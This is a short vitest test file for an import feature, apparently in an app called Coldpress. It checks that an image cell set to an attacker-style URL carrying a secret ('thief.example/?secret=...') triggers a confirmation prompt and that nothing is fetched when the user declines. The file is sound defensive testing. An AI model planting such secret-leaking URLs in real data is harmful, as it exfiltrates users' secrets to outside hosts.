import { expect, it } from 'vitest'
import { makePrints, openImports } from '../main/services/imports/open-imports.ts'

it('A page that writes an address with a secret into a cell of an image has nothing fetched from it', async () => {
  const { call, folder, open, state, tokens } = await openImports()
  await makePrints(folder, 1)
  const { id: draftId } = await open()
  const value = 'https://thief.example/?secret=of-the-user'
  const edit = { kind: 'set', row: 2, column: 'image', value } as const
  await call('imports.edit', { draftId, edits: [edit] })
  state.confirms = false
  await expect(call('imports.start', { draftId })).rejects.toMatchObject({ code: 'cancelled' })
  expect(state.asked).toMatchObject([{ question: 'Let Coldpress connect to thief.example?' }])
  expect(await call('imports.list', null)).toEqual([])
  expect(await tokens()).toEqual([])
})
